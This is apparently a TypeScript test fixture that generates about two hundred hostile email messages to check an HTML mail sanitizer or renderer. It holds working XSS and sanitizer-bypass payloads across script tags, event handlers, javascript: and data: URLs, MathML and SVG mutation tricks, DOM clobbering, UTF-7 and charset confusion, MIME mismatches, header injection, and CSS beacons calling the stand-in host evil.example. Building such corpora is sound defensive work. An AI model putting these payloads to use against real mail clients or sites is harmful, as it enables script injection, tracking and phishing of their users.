/**
 * Mails whose HTML, headers or parts try to run a script, to ask a server, to draw over the page or to leave their frame:
 * classes of tricks, ten cases each. What works names its case: it sets `pwned` on the page, asks evil.example, opens a
 * dialog, or leads away.
 */

export interface HostileMail {
  /** `class-case`. */
  readonly name: string;
  readonly octets: Buffer;
}

interface Trick {
  /** What a script would do. */
  readonly js: string;
  /** What a request would ask. */
  readonly url: string;
}

/** Ten texts of HTML. */
type Tricks = (trick: Trick) => readonly string[];

const b64 = (text: string): string => Buffer.from(text).toString('base64');
const entities = (text: string): string =>
  [...text].map((c) => `&#x${c.codePointAt(0)!.toString(16)};`).join('');

const classes: Readonly<Record<string, Tricks>> = {
  script: ({ js, url }) => [
    `<script>${js}</script>`,
    `<SCRIPT SRC="${url}"></SCRIPT>`,
    `<script type="module">${js}</script>`,
    `<script async defer src=${url}></script>`,
    `<script/x>${js}</script/x>`,
    `<script\n>${js}</script\t\n>`,
    `<svg><script>${js}</script></svg>`,
    `<scr<script>ipt>${js}</scr</script>ipt>`,
    `<script>/*<script>*/${js}</script>`,
    `<html><head><script>${js}</script></head><body>x</body></html>`,
  ],
  handler: ({ js }) => [
    `<img src=x onerror="${js}">`,
    `<body onload="${js}">x</body>`,
    `<div onmouseover="${js}" onpointerenter="${js}" style="width:900px;height:900px">x</div>`,
    `<img/src=x/onerror=${js}>`,
    `<img src=x onerror\n=\n"${js}">`,
    `<details open ontoggle="${js}"><summary>x</summary></details>`,
    `<p onanimationstart="${js}" style="animation:a 1s">x</p><style>@keyframes a{from{opacity:0}}</style>`,
    `<img src=x oNeRrOr="${entities(js)}">`,
    `<marquee onstart="${js}">x</marquee>`,
    `<img src="x" alt="\`><img src=x onerror=${js}>">`,
  ],
  javascriptUrl: ({ js }) => [
    `<a href="javascript:${js}">x</a>`,
    `<a href="JaVaScRiPt:${js}">x</a>`,
    `<a href="java\tscript:${js}">x</a>`,
    `<a href="java&#10;script:${js}">x</a>`,
    `<a href=" &#1; javascript:${js}">x</a>`,
    `<a href="${entities(`javascript:${js}`)}">x</a>`,
    `<a href="vbscript:${js}">x</a>`,
    `<a href="data:text/html;base64,${b64(`<script>${js}</script>`)}">x</a>`,
    `<a href="view-source:javascript:${js}" target=_self>x</a>`,
    `<map name=m><area shape=rect coords=0,0,999,999 href="javascript:${js}"></map><img usemap=#m src=x width=900 height=900>`,
  ],
  svg: ({ js, url }) => [
    `<svg onload="${js}"></svg>`,
    `<svg><animate onbegin="${js}" attributeName=x dur=1s></svg>`,
    `<svg><a xlink:href="javascript:${js}"><text x=20 y=20>x</text></a></svg>`,
    `<svg><image href="${url}" width=9 height=9 /></svg>`,
    `<svg><use href="${url}#a"/></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>${js}</script>"></iframe></foreignObject></svg>`,
    `<svg><style>@import '${url}';</style></svg>`,
    `<svg><a><animate attributeName=href values="javascript:${js}" /><text x=20 y=20>x</text></a></svg>`,
    `<svg><set attributeName=onmouseover to="${js}"/><rect width=900 height=900 /></svg>`,
    `<svg><filter id=f><feImage href="${url}"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>`,
  ],
  mathml: ({ js }) => [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`,
    `<math href="javascript:${js}">x</math>`,
    `<math><annotation-xml encoding="text/html"><script>${js}</script></annotation-xml></math>`,
    `<math><mi xlink:href="javascript:${js}">x</mi></math>`,
    `<math><mtext><mglyph><svg><mtext><style><path id="</style><img onerror=${js} src=1>">`,
    `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror='${js}'>"></style></h1>`,
    `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${js}">x</maction></math>`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js}></style></mglyph></form>`,
    `<math><style><img src=x onerror=${js}></style></math>`,
    `<math><ms><svg><p><style><g title="</style><img src onerror=${js}>">`,
  ],
  styleElement: ({ url }) => [
    `<style>@import '${url}';</style>`,
    `<style>@import url(${url});</style>`,
    `<style>body{background:url(${url})}</style>`,
    `<style>@font-face{font-family:f;src:url(${url})} body{font-family:f}</style>`,
    `<style>body{background:u\\72l(${url})}</style>`,
    `<style>body{background:url("//evil.example/${url.slice(-3)}")}</style>`,
    `<style>body{background-image:image-set("${url}" 1x)}</style>`,
    `<style>body::before{content:url(${url})}</style>`,
    `<style>@im\\70ort '${url}';</style>`,
    `<style>body{background:/**/url(/**/${url});cursor:url(${url}),auto;list-style:url('${url}')}</style>`,
  ],
  styleAttribute: ({ url, js }) => [
    `<p style="background:url(${url})">x</p>`,
    `<p style="background:URL('${url}')">x</p>`,
    `<p style="background:u\\72 l(${url})">x</p>`,
    `<p style="background-image:image-set('${url}' 1x)">x</p>`,
    `<p style="background-image:-webkit-image-set(url(${url}) 1x)">x</p>`,
    `<ul style="list-style-image:url(${url})"><li>x</li></ul>`,
    `<p style="width:expression(${js});behavior:url(${url});-moz-binding:url(${url})">x</p>`,
    `<p style="background:${entities(`url(${url})`)}">x</p>`,
    `<p style="--u:url(${url});background:var(--u)">x</p>`,
    `<p style="mask:url(${url});border-image:url(${url});filter:url(${url}#f);shape-outside:url(${url})">x</p>`,
  ],
  meta: ({ url, js }) => [
    `<meta http-equiv=refresh content="0;url=${url}">`,
    `<meta http-equiv="refresh" content="0;javascript:${js}">`,
    `<META HTTP-EQUIV=Refresh CONTENT="0; URL=data:text/html;base64,${b64(`<script>${js}</script>`)}">`,
    `<meta http-equiv=set-cookie content="a=b">x`,
    `<base href="${url}/"><img src="a.png"><a href="b">x</a>`,
    `<base target="_top"><a href="/status">x</a>`,
    `<meta http-equiv=Content-Security-Policy content="script-src *; report-uri ${url}">`,
    `<meta name=referrer content=unsafe-url><a href="/">x</a>`,
    `<head><meta http-equiv=refresh content="1;${url}"></head>x`,
    `<meta http-equiv=x-dns-prefetch-control content=on><a href="http://evil.example/">x</a>`,
  ],
  link: ({ url }) =>
    [
      'stylesheet',
      'prefetch',
      'preload as=image',
      'preconnect',
      'dns-prefetch',
      'modulepreload',
      'icon',
      'manifest',
      'prerender',
      'import',
    ].map((rel) => `<link rel=${rel} href="${url}">x`),
  frame: ({ url, js }) => [
    `<iframe src="${url}"></iframe>`,
    `<iframe srcdoc="<script>${js}</script>"></iframe>`,
    `<iframe src="javascript:${js}"></iframe>`,
    `<frameset><frame src="${url}"></frameset>`,
    `<object data="${url}"></object>`,
    `<object data="data:text/html;base64,${b64(`<script>${js}</script>`)}"></object>`,
    `<embed src="${url}">`,
    `<embed src="javascript:${js}">`,
    `<applet code="x" archive="${url}"></applet>`,
    `<portal src="${url}"></portal><fencedframe src="${url}"></fencedframe>`,
  ],
  form: ({ url, js }) => [
    `<form action="${url}"><input type=submit value=x></form>`,
    `<form action="javascript:${js}"><button>x</button></form>`,
    `<button formaction="javascript:${js}">x</button>`,
    `<input autofocus onfocus="${js}">`,
    `<input type=image src="${url}">`,
    `<form id=f action="${url}"></form><button form=f>x</button>`,
    `<select autofocus onfocus="${js}"><option>x</select>`,
    `<textarea autofocus onfocus="${js}">x</textarea>`,
    `<keygen autofocus onfocus="${js}"><isindex action="${url}">`,
    `<form><button type=submit formtarget=_top formaction="${url}">x</button></form>`,
  ],
  media: ({ url, js }) => [
    `<video src="${url}" autoplay></video>`,
    `<video poster="${url}"></video>`,
    `<audio src="${url}" autoplay onloadstart="${js}"></audio>`,
    `<picture><source srcset="${url}"><img></picture>`,
    `<img srcset="${url} 1x">`,
    `<img src="${url}">`,
    `<img src="//evil.example/media">`,
    `<img lowsrc="${url}" dynsrc="${url}" longdesc="${url}">`,
    `<video><source onerror="${js}" src=x></video>`,
    `<video><track default src="${url}" kind=captions></video><img src="\\\\evil.example\\x">`,
  ],
  dataUrl: ({ js, url }) => [
    `<img src="data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"/>`)}">`,
    `<img src='data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="${url}"/></svg>'>`,
    `<a href="data:text/html,<script>${js}</script>" target=_top>x</a>`,
    `<a href="data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg"><script>${js}</script></svg>`)}">x</a>`,
    `<a href="data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>${js}</x:script>">x</a>`,
    `<a href="blob:http://127.0.0.1/x">x</a>`,
    `<a href="filesystem:http://127.0.0.1/x">x</a>`,
    `<img src="data:text/html;base64,${b64(`<script>${js}</script>`)}">`,
    `<a href="data:;base64,${b64(`<script>${js}</script>`)}">x</a>`,
    `<embed src="data:image/svg+xml;base64,${b64(`<svg xmlns="http://www.w3.org/2000/svg"><script>${js}</script></svg>`)}">`,
  ],
  clobber: ({ js }) => [
    `<form name=body><input name=innerHTML></form>`,
    `<img name=documentElement><img id=defaultView>`,
    `<form id=attributes><input name=attributes onfocus="${js}" autofocus></form>`,
    `<a id=location href="javascript:${js}">x</a>`,
    `<form><input name=parentNode><input name=nextSibling><img src=x onerror="${js}"></form>`,
    `<img name=currentScript src=x>`,
    `<iframe name=top srcdoc="<script>${js}</script>"></iframe>`,
    `<form id=x><output id=y></form><form id=x tabindex=1 onfocus="${js}" autofocus>`,
    `<a id=cid><a id=cid name=href href="javascript:${js}">x</a>`,
    `<embed name=getElementById><object id=querySelector></object>`,
  ],
  mutation: ({ js }) => [
    `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
    `<template><img src=x onerror=${js}></template>`,
    `<noembed><img src=x onerror=${js}></noembed>`,
    `<xmp><p title="</xmp><img src=x onerror=${js}>">`,
    `<title><p title="</title><img src=x onerror=${js}>"></title>`,
    `<textarea><p title="</textarea><img src=x onerror=${js}>">`,
    `<!--><img src=x onerror=${js}>-->`,
    `<!--!><img src=x onerror=${js}>--!>`,
    `<plaintext><img src=x onerror=${js}>`,
    `<svg></p><style><a id="</style><img src=1 onerror=${js}>">`,
  ],
  malformed: ({ js, url }) => [
    `<<script>${js}//<</script>`,
    `<img """><script>${js}</script>">`,
    `<img src=x onerror=${js}//`,
    `<img src="x\0" on\0error="${js}">`,
    `<scr\0ipt>${js}</scr\0ipt>`,
    `<iframe src=${url} <`,
    `<a href="javascript:${js}" href="http://ok.example">x</a>`,
    `<div style="x:\\"><img src=x onerror=${js}>">`,
    `<p/onclick=${js}/style=position:fixed;inset:0>x`,
    `<?xml version="1.0"?><?xml-stylesheet href="${url}"?><html xmlns:x="x"><x:script>${js}</x:script></html>`,
  ],
  overlay: ({ js }) => [
    `<div style="position:fixed;inset:0;z-index:99999;background:red" class=overlay>sign in</div>`,
    `<div style="position:absolute;top:-3000px;left:-3000px;width:9000px;height:9000px;background:red">x</div>`,
    `<dialog open style="position:fixed;inset:0">x</dialog>`,
    `<div popover id=p>x</div><button popovertarget=p popovertargetaction=show>x</button>`,
    `<a href="/" target=_top style="position:fixed;inset:0">x</a>`,
    `<a href="/" target=_parent>x</a>`,
    `<style>html,body{position:fixed!important;inset:0!important;width:100vw;height:100vh}</style>x`,
    `<div contenteditable autofocus onfocus="${js}">x</div>`,
    `<div style="height:900000px">tall</div>`,
    `<div style="transform:scale(9999)">big</div>`,
  ],
  track: ({ url }) => [
    `<a href="https://ok.example/" ping="${url}">x</a>`,
    `<table background="${url}"><tr><td background="${url}">x</table>`,
    `<body background="${url}">x</body>`,
    `<blockquote cite="${url}">x</blockquote>`,
    `<img src="${url}" loading=lazy width=1 height=1>`,
    `<img attributionsrc="${url}" src=x><a attributionsrc="${url}" href="/">x</a>`,
    `<img src="HTTP://evil.example/track" >`,
    `<img src=" ${url}">`,
    `<img src="${url.replace('http:', 'https:')}">`,
    `<img src="http:\\\\evil.example\\track"><img src="ht\ntp://evil.example/track">`,
  ],
  namespace: ({ js, url }) => [
    `<html xmlns="http://www.w3.org/1999/xhtml"><script xmlns="http://www.w3.org/1999/xhtml">${js}</script></html>`,
    `<x-y is="script">${js}</x-y>`,
    `<p is=x onconnected="${js}">x</p>`,
    `<![CDATA[<script>${js}</script>]]>`,
    `<xml id=x><x><![CDATA[<img src=x onerror=${js}>]]></x></xml>`,
    `<slot onslotchange="${js}">x</slot>`,
    `<div><template shadowrootmode=open><script>${js}</script><img src="${url}"></template></div>`,
    `<o:p><v:imagedata src="${url}"/></o:p>`,
    `<!--[if mso]><img src="${url}"><script>${js}</script><![endif]-->`,
    `<!DOCTYPE html SYSTEM "${url}" [<!ENTITY x SYSTEM "${url}">]><p>&x;</p>`,
  ],
  size: ({ js }) => [
    `${'<div>'.repeat(3000)}<img src=x onerror=${js}>`,
    `${'<b>'.repeat(600)}<script>${js}</script>`,
    `<p ${'a '.repeat(20_000)} onclick="${js}">x</p>`,
    `<p title="${'x'.repeat(200_000)}" onclick="${js}">x</p>`,
    `${'<table><tr><td>'.repeat(300)}<img src=x onerror=${js}>`,
    `${'<svg><p>'.repeat(200)}<script>${js}</script>`,
    `${'<a href="javascript:0">'.repeat(500)}x`,
    `${'<form><math><mtext></form>'.repeat(200)}<img src=x onerror=${js}>`,
    `<style>${'a{}'.repeat(30_000)}</style><script>${js}</script>`,
    `${'&lt;'.repeat(30_000)}script&gt;${js}`,
  ],
};

/** Texts in encodings that a browser might read otherwise than whoever cleans them. */
function encodedMails({ js, url }: Trick): readonly Buffer[] {
  const page = `<p>x</p><script>${js}</script><img src="${url}">`;
  const utf7 = page.replace(/</g, '+ADw-').replace(/>/g, '+AD4-').replace(/"/g, '+ACI-');
  const html = (charset: string, octets: Buffer): Buffer =>
    Buffer.concat([
      head(`text/html; charset=${charset}`, 'base64'),
      Buffer.from(octets.toString('base64')),
      crlf,
    ]);
  return [
    html('utf-7', Buffer.from(utf7)),
    html('utf-8', Buffer.from(`<meta charset=utf-7>${utf7}`)),
    html('utf-16', Buffer.from(`\ufeff${page}`, 'utf16le')),
    html('utf-16be', Buffer.from(page, 'utf16le').swap16()),
    html('utf-8', Buffer.from(`\ufeff${page}`)),
    html('iso-2022-jp', Buffer.from(page.replace('<script', '\x1b$B\x1b(B<script'))),
    html('hz-gb-2312', Buffer.from(page.replace('<script', '<~\nscript'))),
    html(
      'gb2312',
      Buffer.concat([Buffer.from('<img alt="\xbf', 'latin1'), Buffer.from(`" src=x onerror="${js}">`)]),
    ),
    html('"utf-8"; x="</script>"', Buffer.from(page)),
    html('us-ascii', Buffer.from(page.replace(/</g, '\xbc').replace(/>/g, '\xbe'), 'latin1')),
  ];
}

/** Parts and headers that are something else than they say. */
function mimeMails({ js, url }: Trick): readonly Buffer[] {
  const page = `<script>${js}</script><img src="${url}" onerror="${js}">`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"><script>${js}</script><image href="${url}"/></svg>`;
  const related = (type: string, body: string): Buffer =>
    mixed('related', [
      ['text/html', '<p>x</p><img src="cid:a@evil.example">'],
      [`${type}\r\nContent-ID: <a@evil.example>`, body],
    ]);
  return [
    related('image/svg+xml', svg),
    related('text/html', page),
    related('image/png', svg),
    mixed('mixed', [
      ['text/plain', page],
      ['text/html; name="a.html"\r\nContent-Disposition: inline', page],
    ]),
    mixed('alternative', [
      ['text/plain', 'x'],
      ['text/html', page],
      ['text/html', `${page}<p>second</p>`],
    ]),
    mixed('mixed', [
      ['message/rfc822', `Subject: <img src=x onerror=${js}>\r\nContent-Type: text/html\r\n\r\n${page}`],
    ]),
    mixed('mixed', [
      ['text/html', page],
      [`image/png; name="<img src=x onerror=${js}>.png"\r\nContent-Disposition: attachment`, svg],
    ]),
    Buffer.concat([head('text/html\r\nContent-Type: text/plain', '8bit'), Buffer.from(page), crlf]),
    Buffer.concat([head('text/plain\r\nX-Content-Type: text/html', '8bit'), Buffer.from(page), crlf]),
    Buffer.concat([
      head('application/xhtml+xml', '8bit'),
      Buffer.from(`<html xmlns="http://www.w3.org/1999/xhtml">${page}</html>`),
      crlf,
    ]),
  ];
}

/** Headers that the page shows. */
function headerMails({ js, url }: Trick): readonly Buffer[] {
  const bad = `<img src=${url} onerror=${js}>`;
  const word = `=?utf-8?B?${b64(bad)}?=`;
  const mail = (lines: readonly string[]): Buffer =>
    Buffer.from([...lines, 'Content-Type: text/plain', '', bad, ''].join('\r\n'));
  return [
    mail([`Subject: ${bad}`, 'From: a@evil.example']),
    mail([`Subject: ${word}`, 'From: a@evil.example']),
    mail(['Subject: x', `From: "${bad.replace(/"/g, '')}" <a@evil.example>`]),
    mail(['Subject: x', `From: ${word} <a@evil.example>`]),
    mail([
      'Subject: x',
      `To: ${word} <b@evil.example>`,
      `Cc: ${word} <c@evil.example>`,
      'From: a@evil.example',
    ]),
    mail(['Subject: =?utf-8?Q?x=0D=0AContent-Type:_text/html?=', 'From: a@evil.example']),
    mail([`Subject: \u202e${word}`, 'From: a@evil.example']),
    mail(['Subject: x', `Message-ID: <"><script>${js}</script>@evil.example>`, 'From: a@evil.example']),
    mail([
      'Subject: x',
      `Date: <script>${js}</script>`,
      `Reply-To: ${word} <javascript:${js}@evil.example>`,
      'From: a@evil.example',
    ]),
    mail([`Subject: ${'<b>'.repeat(2000)}${bad}`, 'From: javascript:alert(1)']),
  ];
}

const crlf = Buffer.from('\r\n');

function head(type: string, encoding: string): Buffer {
  const lines = [
    'From: a@evil.example',
    'Subject: hostile',
    `Content-Type: ${type}`,
    `Content-Transfer-Encoding: ${encoding}`,
  ];
  return Buffer.from(`${lines.join('\r\n')}\r\n\r\n`);
}

function mixed(subtype: string, parts: readonly (readonly [string, string])[]): Buffer {
  const body = parts.map(([type, text]) => `--b\r\nContent-Type: ${type}\r\n\r\n${text}\r\n`).join('');
  const lines = [
    'From: a@evil.example',
    'Subject: hostile',
    'MIME-Version: 1.0',
    `Content-Type: multipart/${subtype}; boundary=b`,
  ];
  return Buffer.from(`${lines.join('\r\n')}\r\n\r\n${body}--b--\r\n`);
}

function htmlMail(html: string): Buffer {
  const body = `<p>before</p>${html}<p>after</p>`;
  const lines = Buffer.from(body).toString('base64').replace(/.{76}/g, '$&\r\n');
  return Buffer.concat([head('text/html; charset=utf-8', 'base64'), Buffer.from(lines), crlf]);
}

function trickOf(name: string): Trick {
  // No quotation mark, no space, no angle bracket: it stands anywhere.
  const js = `top.pwned=parent.pwned=self.pwned=/${name}/.source;alert(1)`;
  return { js, url: `http://evil.example/${name}` };
}

export const hostileClasses: readonly string[] = [...Object.keys(classes), 'encoding', 'mime', 'header'];

/** Every class with its cases, in order. */
export function hostileMails(): HostileMail[] {
  return hostileClasses.flatMap((kind) => {
    return Array.from({ length: 10 }, (_, i) => ({ name: `${kind}-${i}`, octets: mailOf(kind, i) }));
  });
}

function mailOf(kind: string, i: number): Buffer {
  const trick = trickOf(`${kind}-${i}`);
  switch (kind) {
    case 'encoding':
      return encodedMails(trick)[i]!;
    case 'mime':
      return mimeMails(trick)[i]!;
    case 'header':
      return headerMails(trick)[i]!;
    default:
      return htmlMail(classes[kind]!(trick)[i]!);
  }
}
